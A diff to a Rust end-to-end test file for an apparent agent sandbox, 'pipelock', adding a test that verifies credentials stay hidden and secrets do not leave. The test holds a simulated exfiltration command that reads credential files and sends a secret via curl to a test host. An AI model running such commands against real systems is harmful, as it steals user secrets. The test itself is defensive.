@@ -3,8 +3,11 @@
 
 use std::io::{Read as _, Write as _};
 use std::net::TcpListener;
+use std::process::Command;
 
-use pipelock_e2e::{Answer, Explicit, Hop, HttpServer, LOGIN, Run, Sandbox, Seen, TlsServer, need, web_sockets};
+use pipelock_e2e::{
+    Answer, Explicit, Hop, HttpServer, LOGIN, Run, Sandbox, Seen, TlsServer, free_address, need, pipelock, web_sockets,
+};
 use serde_json::Value;
 
 fn site(seen: &Seen) -> Answer {
@@ -238,6 +241,32 @@ fn an_agent_does_not_reach_it() {
     let reasons: Vec<String> = run.evidence.connections().iter().map(|flow| flow.reason.clone()).collect();
     assert!(reasons.contains(&"address_denied".to_owned()), "{reasons:?} {run}");
     assert!(reasons.iter().all(|reason| ["address_denied", "loopback_denied"].contains(&reason.as_str())), "{run}");
+}
+
+#[test]
+fn its_credentials_are_hidden_from_the_agent_and_do_not_leave() {
+    need!("curl");
+    for scan in [false, true] {
+        let sandbox = Sandbox::new("").user("root");
+        let (login, token) = (sandbox.file("login", LOGIN), sandbox.file("token", "0123456789abcdef0123"));
+        let key = sandbox.work().join("key");
+        let made = Command::new(pipelock()).args(["keygen", "--output"]).arg(&key).output().expect("pipelock");
+        assert!(made.status.success());
+        sandbox.set_policy(&format!(
+            "egress: [{{destination: web.test, ports: [8], scan: {scan}}}]\n{PINNED}\nssrf: {{allow: [\"127.0.0.0/8\"]}}\n\
+             upstream: {{proxy: \"http://127.0.0.1:9\", credentials_file: {}}}\nmetrics: {{listen: \"{}\", token_file: {}}}",
+            login.display(),
+            free_address(),
+            token.display(),
+        ));
+        let secret = LOGIN.split_once(':').expect("both").1;
+        let script = "cat login token key; curl -sS \"http://web.test:8/?word=$1\"";
+        let run = sandbox.option("--key").option(&key).run(&["sh", "-c", script, "sh", secret]);
+        assert!(!run.text().contains(secret) && !run.text().contains("0123456789abcdef"), "{run}");
+        assert!(!run.text().contains("private"), "{run}");
+        let reason = if scan { "dlp_match" } else { "hop_failed" };
+        assert!(run.evidence.http().iter().any(|request| request.reason == reason), "{reason}: {run}");
+    }
 }
 
 #[test]
